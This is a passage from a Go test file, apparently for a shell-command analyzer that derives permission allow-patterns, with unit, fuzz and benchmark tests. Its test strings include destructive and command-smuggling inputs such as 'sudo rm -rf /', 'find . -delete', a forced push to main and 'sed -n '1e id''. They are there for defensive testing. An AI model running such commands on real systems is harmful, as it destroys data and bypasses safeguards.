		{"npm run build --watch", "npm run build *"},
		{"npm test", "npm test *"},
		{"cat README.md", "cat *"},
		{"sed -n 1,5p f", "sed -n *"},
		{"sed s/a/b/ f", "sed s/a/b/ f"},
		{"find . -name x", "find *"},
		{"gh pr view 123", "gh pr view *"},
		{"docker compose up -d", "docker compose up *"},
		{"mytool deploy prod", "mytool deploy *"},
		{"mytool ./file", "mytool *"},
		{"npm -g install x", "npm -g install x"},
		{`npm run "build:{a,b}"`, `npm run build:\{a,b\}`},
		{"python -c 'print(1)'", `python -c 'print(1)'`},
		{"python3 script.py", "python3 script.py"},
		{"/usr/bin/git status", "/usr/bin/git status"},
		{"./cat README.md", "./cat README.md"},
		{"echo $X", ""},
		{"for d in */; do echo \"$d\"; done", ""},
		{"sudo -l", ""},
		{"exec 3> x", ""},
		{"find . -delete", "find . -delete"},
		{"eval x", "eval x"},
		{"sudo rm x", "sudo rm x"},
		{"xargs rm", "xargs rm"},
		{"source x", "source x"},
		{"rm -rf build", "rm -rf build"},
		{"rm build.log", "rm *"},
		{"ssh host uptime", "ssh host uptime"},
		{"go run ./cmd/x", "go run ./cmd/x"},
		{"cargo run --release", "cargo run --release"},
		{"curl https://example.com", "curl https://example.com"},
		{"export a=1", "export a=1"},
		{"tar -czf a.tgz dir", "tar -czf a.tgz dir"},
		{"zip -r a.zip dir", "zip -r a.zip dir"},
		{"git push --force origin main", "git push --force origin main"},
	}
	for _, c := range cases {
		an := Analyze(c.src, testOpts)
		if len(an.Commands) == 0 || an.Commands[0].Always != c.want {
			var got []string
			for _, c := range an.Commands {
				got = append(got, c.Always)
			}
			t.Errorf("Analyze(%q) Always = %q, want %q", c.src, got, c.want)
		}
	}
}

func TestAnalyzeNeverPanics(t *testing.T) {
	for _, src := range []string{"", " ", "\n", ";", "(", "$(", "${", "`", "<<", "a=(", "case", "[[", "((", "eval", "bash -c", "find -exec", "env -S", "sudo --"} {
		_ = Analyze(src, Options{})
	}
}

// FuzzAnalyze checks that Analyze never panics and keeps its invariants.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"git add -A && git commit -m \"x\" && git push", "sudo rm -rf /", "bash -c 'eval \"$X\"'",
		"find . -exec sh -c 'rm {}' \\;", "echo ${x:-$(rm)} > ~/f", "{a,b}{c,d} $'\\x41' *.go",
		"cat <<EOF\n$(x)\nEOF", "env -S 'a b' c", "x=1 y=$(z) w", "sed -n '1e id'", "awk '{print > \"f\"}'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		an := Analyze(src, Options{Cwd: "/p", Home: "/h"})
		if strings.HasPrefix(an.Unsafe, "shell analysis failed") {
			t.Fatalf("internal panic on %q: %s", src, an.Unsafe)
		}
		for _, c := range an.Commands {
			if len(c.Argv) == 0 {
				t.Fatalf("command without argv in %q", src)
			}
			if strings.Contains(c.Argv[0], Dyn) && c.Dynamic == "" {
				t.Fatalf("name %q not static but not Dynamic in %q", c.Argv[0], src)
			}
			anyDyn := false
			for _, a := range c.Argv {
				anyDyn = anyDyn || strings.Contains(a, Dyn)
			}
			if strings.Contains(c.Text, Dyn) && !anyDyn {
				t.Fatalf("Text %q has Dyn but argv does not, in %q", c.Text, src)
			}
			if anyDyn && c.Always != "" {
				t.Fatalf("Always %q for a command with run-time parts, in %q", c.Always, src)
			}
			if c.Text != joinQuoted(c.Argv) {
				t.Fatalf("Text %q is not the quoted argv", c.Text)
			}
		}
		if strings.ContainsRune(src, 0) && an.Unsafe == "" {
			t.Fatalf("NUL input not unsafe: %q", src)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Analyze(`git add -A && git commit -m "x" && git push`, testOpts)
	}
}
